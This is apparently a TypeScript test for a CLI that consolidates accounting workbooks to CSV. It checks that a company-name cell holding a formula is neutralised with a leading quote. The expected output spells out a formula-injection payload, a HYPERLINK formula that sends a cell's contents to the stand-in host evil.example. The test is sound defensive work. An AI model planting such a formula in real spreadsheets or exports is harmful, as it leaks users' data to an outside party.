import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { BIN, ROOT, ensureDist } from "../support/dist";
import { HOSTILE_NAME, csvRows } from "../support/csv";

/** `consolidate --csv` on a workbook whose « Raison sociale » is a formula (issue 15): the CSV holds it as inert text. */
const dir = mkdtempSync(join(tmpdir(), "bilan-csv-injection-"));
beforeAll(() => ensureDist(), 180_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

test("a « Raison sociale » =HYPERLINK(…) is written with a leading quote, quoted, in consolidate --csv", async () => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(join(ROOT, "examples", "aci-canonique.xlsx"));
  const structure = wb.getWorksheet("Structure") as ExcelJS.Worksheet;
  expect(structure.getCell("A3").value).toBe("Raison sociale :");
  structure.getCell("B3").value = HOSTILE_NAME;
  const input = join(dir, "jardins.xlsx");
  await wb.xlsx.writeFile(input);
  const out = join(dir, "conso.csv");

  const r = spawnSync(process.execPath, [BIN, "consolidate", "--csv", out, input], {
    cwd: dir,
    encoding: "utf8",
  });
  expect(r.stderr).not.toMatch(/^\s+at /m);
  expect(r.status).toBe(0);

  const text = readFileSync(out, "utf8");
  expect(text).toContain(`;"'=HYPERLINK(""http://evil.example/?leak=""&C3,""Jardins"")";`);
  const rows = csvRows(text);
  const nameColumn = rows[0].indexOf("Raison sociale");
  expect(rows[1][nameColumn]).toBe(`'${HOSTILE_NAME}`);
}, 60_000);
